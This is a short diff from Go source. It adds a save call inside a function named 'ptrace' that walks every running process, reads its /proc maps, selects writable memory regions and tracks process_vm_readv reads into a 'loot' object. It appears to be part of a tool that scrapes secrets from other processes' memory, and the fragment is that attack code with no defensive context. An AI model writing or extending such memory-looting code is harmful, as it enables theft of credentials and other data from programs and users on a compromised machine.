@@ -23,6 +23,7 @@ func ptrace(l *loot) {
 	for _, pid := range processes() {
 		who := describe(pid)
 		l.count("processes")
+		l.save("part")
 		maps, _ := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
 		regions := writable(maps)
 		l.count("process_vm_readv")
